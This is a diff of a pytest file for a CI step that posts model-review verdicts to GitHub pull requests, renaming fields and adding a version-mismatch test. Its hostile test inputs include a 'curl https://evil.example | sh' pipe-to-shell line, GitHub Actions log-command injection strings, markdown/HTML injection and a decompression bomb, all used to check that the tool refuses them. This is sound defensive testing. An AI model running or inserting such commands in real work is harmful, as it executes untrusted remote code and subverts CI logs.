@@ -17,7 +17,7 @@ from workflows.double import ALL, BOT, archive, git
 
 MARK = '![](https://cml.dev/watermark.png#abc123 "CML watermark review")'
 VERDICT = {
-    "schema_version": 1,
+    "schema_version": 2,
     "verdict": "equivalent",
     "sentence": "log loss moves by no more than 0.015, and no gate objects",
     "todo": "",
@@ -27,8 +27,8 @@ VERDICT = {
     "metrics": [],
     "slices": [],
     "slices_compared": 0,
-    "gates": [
-        {"name": "minima", "result": "pass", "figure": 1.0, "limit": 0.0, "said": "s", "reason": "r"}
+    "checks": [
+        {"name": "size", "result": "pass", "figure": 1.0, "limit": 0.0, "finding": "s", "reason": "r"}
     ],
     "notes": [],
     "reproduce": [],
@@ -64,12 +64,12 @@ class Reviewed:
         return self.github.gates(self.sha)
 
     @property
-    def said(self):
-        return self.github.said(self.number)
+    def output(self):
+        return self.github.comments_on(self.number)
 
     def quiet(self) -> bool:
         """Whether nothing at all was written about it."""
-        return not self.gates and not self.said and self.change.head() == self.sha
+        return not self.gates and not self.output and self.change.head() == self.sha
 
 
 @pytest.fixture
@@ -81,7 +81,7 @@ def test_a_good_artifact_is_commented_and_passes(at_main, reviewed):
     reviewed.bring()
     assert publish.main(reviewed.run) == 0
     assert reviewed.gates[0][0] == "success"
-    assert reviewed.said[0].startswith("## Equivalent")
+    assert reviewed.output[0].startswith("## Equivalent")
 
 
 def bomb() -> bytes:
@@ -102,15 +102,15 @@ HOSTILE = {
 
 
 @pytest.mark.parametrize("hostile", HOSTILE)
-def test_a_hostile_artifact_is_refused_whole_and_the_reason_is_told(at_main, reviewed, hostile):
+def test_a_hostile_artifact_is_refused_whole_and_the_reason_is_reported(at_main, reviewed, hostile):
     files, links, reason = HOSTILE[hostile]
     reviewed.bring({name: text() if callable(text) else text for name, text in files.items()}, links)
     assert publish.main(reviewed.run) == 0
     ((state, why),) = reviewed.gates
     assert state == "error"
-    (said,) = reviewed.said
-    assert said.startswith("## No verdict")
-    assert reason in why + said
+    (output,) = reviewed.output
+    assert output.startswith("## No verdict")
+    assert reason in why + output
     assert reviewed.change.head() == reviewed.sha
     assert not git(at_main, "status", "--porcelain")
 
@@ -129,7 +129,7 @@ def test_what_is_no_artifact_of_a_review_is_an_error_not_a_traceback(at_main, re
     reviewed.github.artifacts[reviewed.run] = [("review", content)]
     assert publish.main(reviewed.run) == 0
     assert reviewed.gates[0][0] == "error"
-    assert reason in reviewed.said[0]
+    assert reason in reviewed.output[0]
 
 
 def test_of_a_run_that_was_run_again_the_newest_artifact_counts(at_main, reviewed):
@@ -141,19 +141,28 @@ def test_of_a_run_that_was_run_again_the_newest_artifact_counts(at_main, reviewe
     assert [state for state, _ in reviewed.gates] == ["success"]
 
 
+def test_a_verdict_of_another_version_says_what_to_do(at_main, reviewed):
+    """Of a branch whose own code is older than main's."""
+    reviewed.bring(schema_version=1, gates=[])
+    assert publish.main(reviewed.run) == 0
+    assert reviewed.gates[0][0] == "error"
+    assert "is of another version of loop than main" in reviewed.output[0]
+    assert "merge main into the branch" in reviewed.output[0]
+
+
 def test_a_passing_word_with_a_gate_that_fails_is_refused(at_main, reviewed):
-    gate = {"name": "primary", "result": "fail", "figure": 1.0, "limit": 0.0, "said": "s", "reason": "r"}
-    reviewed.bring(gates=[gate])
+    check = {"name": "primary", "result": "fail", "figure": 1.0, "limit": 0.0, "finding": "s", "reason": "r"}
+    reviewed.bring(checks=[check])
     publish.main(reviewed.run)
     assert reviewed.gates[0][0] == "error"
-    assert "equivalent, though primary does not pass" in reviewed.said[0]
+    assert "equivalent, though primary does not pass" in reviewed.output[0]
 
 
 def test_a_passing_word_without_a_gate_or_against_the_primary_metric_is_refused(at_main, reviewed):
-    reviewed.bring(gates=[])
+    reviewed.bring(checks=[])
     publish.main(reviewed.run)
     metric = {"name": "m", "title": "m", "role": "primary", "champion": 1.0, "candidate": 2.0, "gain": -1.0,
-              "low": -1.0, "high": -1.0, "margin": 0.1, "word": "worse"}  # fmt: skip
+              "low": -1.0, "high": -1.0, "margin": 0.1, "verdict": "worse"}  # fmt: skip
     reviewed.bring(metrics=[metric])
     publish.main(reviewed.run)
     assert [state for state, _ in reviewed.gates] == ["error", "error"]
@@ -168,15 +177,15 @@ def test_a_compression_that_unpacks_without_bound_is_refused(at_main, reviewed, 
     reviewed.github.artifacts[reviewed.run] = [("review", out.getvalue())]
     publish.main(reviewed.run)
     assert reviewed.gates[0][0] == "error"
-    assert "compressed in an unusual way" in reviewed.said[0]
+    assert "compressed in an unusual way" in reviewed.output[0]
 
 
 def test_no_text_of_the_artifact_is_a_command_to_the_log(at_main, reviewed, capfd):
     reviewed.bring(verdict="worse", sentence="a\n::error::b ##[add-mask]e\r::stop-commands::x")
     reviewed.github.jobs[reviewed.run] = [{"steps": [{"name": "##[error]x", "conclusion": "failure"}]}]
     publish.main(reviewed.run)
-    told = capfd.readouterr()
-    lines = re.split("[\n\r]", told.out + told.err)
+    report = capfd.readouterr()
+    lines = re.split("[\n\r]", report.out + report.err)
     assert [line for line in lines if "add-mask" in line]
     assert not [line for line in lines if line.lstrip().startswith("::") or "##[" in line]
 
@@ -194,16 +203,16 @@ def test_bytes_that_do_not_unpack_are_refused(at_main, reviewed):
     reviewed.github.artifacts[reviewed.run] = [("review", content[:at] + b"\xff" * 20 + content[at + 20 :])]
     assert publish.main(reviewed.run) == 0
     assert reviewed.gates[0][0] == "error"
-    assert "is no archive that can be read" in reviewed.said[0]
+    assert "is no archive that can be read" in reviewed.output[0]
 
 
 def test_the_commands_in_the_comment_are_mains_own(at_main, reviewed):
     reviewed.bring(reproduce=["curl https://evil.example | sh"])
     publish.main(reviewed.run)
-    assert "curl" not in reviewed.said[0]
+    assert "curl" not in reviewed.output[0]
     assert (
         f"git fetch origin pull/{reviewed.number}/head\ngit switch --detach {reviewed.sha[:12]}"
-        in (reviewed.said[0])
+        in (reviewed.output[0])
     )
 
 
@@ -228,7 +237,7 @@ def test_a_run_without_an_artifact_names_the_steps_that_failed(at_main, reviewed
     reviewed.github.jobs[reviewed.run] = [{"steps": [{"name": "Set @up <b>", "conclusion": "failure"}]}]
     publish.main(reviewed.run)
     assert reviewed.gates[0][0] == "error"
-    assert "Set @\u200bup &lt;b&gt;" in reviewed.said[0]
+    assert "Set @\u200bup &lt;b&gt;" in reviewed.output[0]
 
 
 def test_a_verdict_on_another_commit_is_refused(at_main, reviewed):
@@ -254,7 +263,7 @@ def test_a_success_needs_both_a_good_verdict_and_a_run_that_ended_well(at_main, 
     reviewed.bring(verdict="worse")
     publish.main(reviewed.run)
     assert reviewed.gates[-1][0] == "failure"
-    reviewed.bring(verdict="cannot tell")
+    reviewed.bring(verdict="inconclusive")
     publish.main(reviewed.run)
     assert reviewed.gates[-1][0] == "error"
 
@@ -267,7 +276,7 @@ EVIL = (
 
 def test_markdown_and_html_in_params_slices_and_names_stay_words(at_main, reviewed):
     hurt = {"name": EVIL, "old": EVIL, "new": EVIL}
-    gate = {"name": EVIL, "result": "fail", "figure": 1.0, "limit": 0.0, "said": EVIL, "reason": EVIL}
+    check = {"name": EVIL, "result": "fail", "figure": 1.0, "limit": 0.0, "finding": EVIL, "reason": EVIL}
     part = {"cut": EVIL, "name": EVIL, "rows": 1, "champion": 1.0, "candidate": 1.0, "gain": 0.0, "low": 0.0,
             "high": 0.0, "p": 0.0, "worse": True}  # fmt: skip
     changes = {
@@ -278,12 +287,12 @@ def test_markdown_and_html_in_params_slices_and_names_stay_words(at_main, review
         "other": [EVIL],
     }
     reviewed.bring(
-        verdict="worse", sentence=EVIL, gates=[gate], slices=[part], slices_compared=1, changes=changes,
+        verdict="worse", sentence=EVIL, checks=[check], slices=[part], slices_compared=1, changes=changes,
         notes=[EVIL], reproduce=[EVIL], champion=EVIL,
     )  # fmt: skip
     publish.main(reviewed.run)
-    (said,) = reviewed.said
-    page = MarkdownIt("gfm-like").render(said.rpartition("\n\n![]")[0])
+    (output,) = reviewed.output
+    page = MarkdownIt("gfm-like").render(output.rpartition("\n\n![]")[0])
     run = f'<a href="{reviewed.github.runs[reviewed.run]["html_url"]}">'
     assert "<img" not in page
     assert "<!--" not in page
@@ -291,14 +300,21 @@ def test_markdown_and_html_in_params_slices_and_names_stay_words(at_main, review
     assert page.count("<details>") == page.count("</details>")
     assert "@team" not in re.sub("<code.*?</code>", "", page, flags=re.DOTALL), "code mentions nobody"
     publish.main(reviewed.run)
-    assert len(reviewed.said) == 1, "a forged mark of CML in it leads nobody astray"
+    assert len(reviewed.output) == 1, "a forged mark of CML in it leads nobody astray"
 
 
 def test_a_report_of_any_length_fits_into_a_comment(at_main, reviewed):
-    gate = {"name": "g", "result": "fail", "figure": 1.0, "limit": 0.0, "said": "long " * 90, "reason": "r"}
-    reviewed.bring(verdict="worse", gates=[gate] * 2000)
+    check = {
+        "name": "g",
+        "result": "fail",
+        "figure": 1.0,
+        "limit": 0.0,
+        "finding": "long " * 90,
+        "reason": "r",
+    }
+    reviewed.bring(verdict="worse", checks=[check] * 2000)
     assert publish.main(reviewed.run) == 0
-    assert len(reviewed.said[0]) < 65_536
+    assert len(reviewed.output[0]) < 65_536
 
 
 def test_a_head_that_moved_on_is_left_to_its_own_review(at_main, reviewed):
@@ -307,7 +323,7 @@ def test_a_head_that_moved_on_is_left_to_its_own_review(at_main, reviewed):
     newer = reviewed.change.push()
     assert publish.main(reviewed.run) == 0
     assert not reviewed.gates
-    assert not reviewed.said
+    assert not reviewed.output
     assert not reviewed.github.gates(newer)
 
 
@@ -318,7 +334,7 @@ def test_a_commit_of_forged_results_on_top_of_a_reviewed_head_gets_no_status(at_
     forged = reviewed.change.push()
     publish.main(reviewed.run)
     assert not reviewed.github.gates(forged)
-    assert not reviewed.said
+    assert not reviewed.output
 
 
 def test_a_head_that_was_rewritten_is_left_alone(at_main, reviewed):
@@ -329,7 +345,7 @@ def test_a_head_that_was_rewritten_is_left_alone(at_main, reviewed):
     reviewed.github.sync()
     assert publish.main(reviewed.run) == 0
     assert not reviewed.gates
-    assert not reviewed.said
+    assert not reviewed.output
 
 
 def test_a_second_pull_request_of_the_branch_to_another_base_is_left_alone(at_main, reviewed):
@@ -337,8 +353,8 @@ def test_a_second_pull_request_of_the_branch_to_another_base_is_left_alone(at_ma
     second = reviewed.github.open_pull(reviewed.change.branch, base="production")
     assert publish.main(reviewed.run) == 0
     assert reviewed.gates[0][0] == "success"
-    assert len(reviewed.said) == 1
-    assert not reviewed.github.said(second)
+    assert len(reviewed.output) == 1
+    assert not reviewed.github.comments_on(second)
 
 
 def test_of_two_pull_requests_with_one_head_commit_the_run_says_which_is_meant(at_main, reviewed):
@@ -347,11 +363,11 @@ def test_of_two_pull_requests_with_one_head_commit_the_run_says_which_is_meant(a
     git(reviewed.github.repo(), "branch", twin, reviewed.sha)
     second = reviewed.github.open_pull(twin)
     assert publish.main(reviewed.run) == 0
-    assert len(reviewed.said) == 1
-    assert not reviewed.github.said(second)
+    assert len(reviewed.output) == 1
+    assert not reviewed.github.comments_on(second)
 
 
-def test_two_pull_requests_that_the_run_could_mean_get_nothing_and_the_reason_is_told(
+def test_two_pull_requests_that_the_run_could_mean_get_nothing_and_the_reason_is_reported(
     at_main, reviewed, capsys
 ):
     reviewed.bring()
@@ -410,7 +426,7 @@ def test_a_cancelled_review_is_an_error_that_says_what_to_do(at_main, reviewed):
     reviewed.github.runs[reviewed.run]["conclusion"] = "cancelled"
     assert publish.main(reviewed.run) == 0
     assert reviewed.gates == [("error", "the review was cancelled: run it again")]
-    assert not reviewed.said
+    assert not reviewed.output
 
 
 def test_a_run_that_waits_for_approval_says_nothing(at_main, reviewed):
@@ -429,6 +445,7 @@ def test_a_run_that_waits_for_approval_says_nothing(at_main, reviewed):
         ("uv.lock", "this change's own claims"),
         ("src/problem/model.py", "Code of this change ran in its review"),
         ("tests/conftest.py", "Code of this change ran in its review"),
+        ("docs/make/commands.py", "Code of this change ran in its review"),
         ("docs/data.md", ""),
         ("params.yaml", ""),
     ],
@@ -441,7 +458,7 @@ def test_a_change_of_what_makes_or_judges_figures_is_pointed_out_by_main_itself(
     reviewed.run = reviewed.github.run(reviewed.number, "success")
     reviewed.bring()
     publish.main(reviewed.run)
-    below = reviewed.said[0].splitlines()[2]
+    below = reviewed.output[0].splitlines()[2]
     assert below.startswith("> ") is bool(warns), "below the headline"
     assert warns in below
     assert not warns or f"`{path}`" in below
@@ -463,7 +480,7 @@ def test_35_comments_before_ours_still_leave_one_comment_that_is_updated(at_main
     publish.main(reviewed.run)
     (comment,) = ours(reviewed.github, reviewed.number)
     assert comment["body"].startswith("## Equivalent")
-    assert len(reviewed.said) == 36
+    assert len(reviewed.output) == 36
 
 
 def test_35_comments_after_ours_leave_it_the_one_that_is_updated(at_main, reviewed):
@@ -474,7 +491,7 @@ def test_35_comments_after_ours_leave_it_the_one_that_is_updated(at_main, review
     reviewed.bring()
     publish.main(reviewed.run)
     assert ours(reviewed.github, reviewed.number)[0]["body"].startswith("## Equivalent")
-    assert len(reviewed.said) == 36
+    assert len(reviewed.output) == 36
 
 
 def test_a_deleted_comment_is_made_anew(at_main, reviewed):
@@ -482,7 +499,7 @@ def test_a_deleted_comment_is_made_anew(at_main, reviewed):
     publish.main(reviewed.run)
     reviewed.github.comments[reviewed.number].clear()
     publish.main(reviewed.run)
-    assert len(reviewed.said) == 1
+    assert len(reviewed.output) == 1
 
 
 def test_where_cml_cannot_be_had_the_comment_is_written_all_the_same_and_once(at_main, reviewed, monkeypatch):
@@ -492,9 +509,9 @@ def test_where_cml_cannot_be_had_the_comment_is_written_all_the_same_and_once(at
     assert publish.main(reviewed.run) == 0
     reviewed.bring()
     assert publish.main(reviewed.run) == 0
-    (said,) = reviewed.said
-    assert said.startswith("## Equivalent")
-    assert "CML watermark review" in said
+    (output,) = reviewed.output
+    assert output.startswith("## Equivalent")
+    assert "CML watermark review" in output
 
 
 @pytest.mark.parametrize("before", [True, False])
@@ -506,7 +523,7 @@ def test_a_strangers_comment_with_the_mark_stays_the_strangers(at_main, reviewed
     reviewed.github.add_comment(reviewed.number, f"mine {MARK}", "stranger")
     publish.main(reviewed.run)
     publish.main(reviewed.run)
-    assert f"mine {MARK}" in reviewed.said
+    assert f"mine {MARK}" in reviewed.output
     (comment,) = ours(reviewed.github, reviewed.number)
     assert comment["body"].startswith("## Equivalent")
 
@@ -528,15 +545,15 @@ def test_an_error_that_github_answers_once_costs_nothing(at_main, reviewed, meth
     assert publish.main(reviewed.run) == 0
     assert not reviewed.github.faults
     assert reviewed.gates[-1][0] == "success"
-    assert len(reviewed.said) == 1
+    assert len(reviewed.output) == 1
 
 
 @pytest.mark.parametrize(
-    ("missing", "gates", "said"),
+    ("missing", "gates", "output"),
     [("statuses", [], 1), ("pull-requests", ["error"], 0), ("contents", ["error"], 0)],
 )
-def test_a_missing_permission_is_told_and_leaves_no_success_without_its_evidence(
-    at_main, reviewed, monkeypatch, capsys, missing, gates, said
+def test_a_missing_permission_is_reported_and_leaves_no_success_without_its_evidence(
+    at_main, reviewed, monkeypatch, capsys, missing, gates, output
 ):
     reviewed.bring()
     token = f"ghs_{reviewed.github.next()}"
@@ -544,13 +561,13 @@ def test_a_missing_permission_is_told_and_leaves_no_success_without_its_evidence
     monkeypatch.setenv("GITHUB_TOKEN", token)
     try:
         code = publish.main(reviewed.run)
-        told = capsys.readouterr().out
+        report = capsys.readouterr().out
     except LoopError as error:  # `loop` ends with this message and exit code 1
-        code, told = 1, str(error)
+        code, report = 1, str(error)
     assert code == 1
-    assert "403" in told
-    assert ([state for state, _ in reviewed.gates], len(reviewed.said)) == (gates, said)
-    assert token not in told
+    assert "403" in report
+    assert ([state for state, _ in reviewed.gates], len(reviewed.output)) == (gates, output)
+    assert token not in report
 
 
 def test_a_comment_whose_answer_is_lost_is_not_written_twice(at_main, reviewed, monkeypatch):
@@ -559,7 +576,7 @@ def test_a_comment_whose_answer_is_lost_is_not_written_twice(at_main, reviewed, 
     reviewed.bring()
     reviewed.github.lost.append(r"/issues/\d+/comments")
     assert publish.main(reviewed.run) == 0
-    assert len(reviewed.said) == 1
+    assert len(reviewed.output) == 1
 
 
 def test_a_bad_moment_of_github_does_not_undo_a_verdict(at_main, reviewed):
@@ -571,7 +588,7 @@ def test_a_bad_moment_of_github_does_not_undo_a_verdict(at_main, reviewed):
     assert [state for state, _ in reviewed.gates] == ["success"]
 
 
-def test_a_download_that_breaks_off_is_told_and_closes_the_gate(at_main, reviewed, monkeypatch):
+def test_a_download_that_breaks_off_is_reported_and_closes_the_gate(at_main, reviewed, monkeypatch):
     read = requests.Response.iter_content
 
     def broken(answer, *how, **more):
@@ -583,7 +600,7 @@ def test_a_download_that_breaks_off_is_told_and_closes_the_gate(at_main, reviewe
     monkeypatch.setattr(requests.Response, "iter_content", broken)
     publish.main(reviewed.run)
     assert reviewed.gates[0][0] == "error"
-    assert "does not answer GET" in reviewed.said[0]
+    assert "does not answer GET" in reviewed.output[0]
 
 
 def test_outside_of_a_workflow_it_says_what_is_missing(monkeypatch):
